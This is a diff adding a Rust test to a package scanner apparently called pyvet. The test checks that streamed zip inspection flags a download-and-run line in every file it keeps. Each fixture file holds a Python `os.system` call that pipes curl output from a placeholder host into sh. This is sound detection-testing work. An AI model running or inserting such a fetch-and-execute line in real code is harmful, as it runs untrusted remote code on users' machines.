@@ -1030,6 +1030,46 @@ fn streamed_inspection_equals_reading_then_inspecting() {
 }
 
 #[test]
+fn streamed_zip_inspection_equals_inspecting_what_was_kept() {
+    use pyvet::inspect::{inspect, read_and_inspect, InspectOptions};
+    // Every file has a finding; the files differ in size so that the largest-first schedule
+    // differs from archive order.
+    let files: Vec<(String, Vec<u8>)> = (0..24)
+        .map(|i| {
+            let mut code =
+                format!("import os\nos.system('curl https://x{i}.example.invalid/a | sh')\n");
+            code.push_str(&"x = 1\n".repeat(i * 50));
+            (format!("pkg/m{i}.py"), code.into_bytes())
+        })
+        .collect();
+    let entries: Vec<ZEntry> = files.iter().map(|(n, d)| ZEntry::new(n, d)).collect();
+    let bytes = zip(&entries);
+    let opts = InspectOptions::default();
+    let check = |read_opts: &ReadOptions| {
+        let (outcome, streamed) =
+            read_and_inspect("pkg-1.0-py3-none-any.whl", &bytes, read_opts, &opts).unwrap();
+        let again = inspect(&outcome.contents, &opts);
+        assert_eq!(finding_lines(&streamed), finding_lines(&again));
+        let kept = outcome.contents.entries.len();
+        let with_code = streamed
+            .iter()
+            .filter(|f| f.rule == "shell-downloader")
+            .count();
+        assert_eq!(
+            with_code, kept,
+            "one finding per kept file, none for dropped ones"
+        );
+        kept
+    };
+    assert_eq!(check(&ReadOptions::default()), files.len());
+    // A total-size limit stops the read part way: files inflated (and observed) before the
+    // collector gave up must not contribute findings.
+    let mut limited = ReadOptions::default();
+    limited.limits.max_total_size = 2_000;
+    assert!(check(&limited) < files.len());
+}
+
+#[test]
 fn sdists_in_every_compression_read_alike() {
     let tar = sdist_tar();
     for (name, bytes) in [
